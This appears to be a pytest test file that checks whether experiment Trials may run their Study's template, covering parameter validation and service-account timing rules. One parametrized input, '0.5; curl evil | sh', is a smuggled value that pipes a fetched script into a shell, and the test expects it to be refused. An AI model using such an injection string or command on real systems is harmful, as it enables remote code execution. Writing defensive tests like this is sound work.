"""Which Trials may run their Study's template."""

import copy
from dataclasses import replace

import pytest

from espalier.errors import SpecError
from espalier.planning import trial_check
from espalier.planning.drafting import blueprint_of
from espalier.planning.trial_check import SETTLED
from tests.planning.worlds import NOW, SETTINGS, spec_dict, study, trial


def runs_as(field=None, account="robot"):
    """A Study, made now, whose template names a service account."""
    template = copy.deepcopy(spec_dict()["template"])
    if field:
        template["spec"][field] = account
    return replace(study(template=template), created_at=NOW)


def check_trial(view, its_study):
    trial_check.check_trial(view, its_study, blueprint_of(its_study, SETTINGS))


def by_hand(after, **changes):
    return trial(0, sampled=False, created_at=NOW + after, **changes)


@pytest.mark.parametrize("sampled", [True, False], ids=["says it was sampled", "by hand"])
@pytest.mark.parametrize(
    "parameters",
    [{}, {"lr": "0.5; curl evil | sh"}, {"lr": 2}, {"lr": 0.1, "x=y": 1}, {"lr": []}, {"lr": None}],
    ids=str,
)
def test_the_values_are_those_of_the_space_whatever_a_trial_claims_to_be(sampled, parameters):
    with pytest.raises(SpecError) as refused:
        check_trial(trial(0, sampled=sampled, parameters=parameters), runs_as())
    assert refused.value.field.startswith("spec.parameters")


@pytest.mark.parametrize("field", ["serviceAccountName", "serviceAccount"])
@pytest.mark.parametrize("after", [-3600.0, -1.0, 0.0, SETTLED - 1.0])
def test_one_that_admission_cannot_have_compared_with_its_study_is_refused(field, after):
    with pytest.raises(SpecError, match="names service account robot") as refused:
        check_trial(by_hand(after), runs_as(field))
    assert refused.value.field == "metadata.creationTimestamp"
    check_trial(by_hand(SETTLED), runs_as(field))


def test_one_that_runs_as_nobody_in_particular_may_be_as_old_as_its_study():
    check_trial(by_hand(-3600.0), runs_as())
    check_trial(by_hand(-3600.0), runs_as("serviceAccountName", "default"))


def test_the_operators_own_are_never_too_early():
    check_trial(trial(0, created_at=NOW), runs_as("serviceAccountName"))
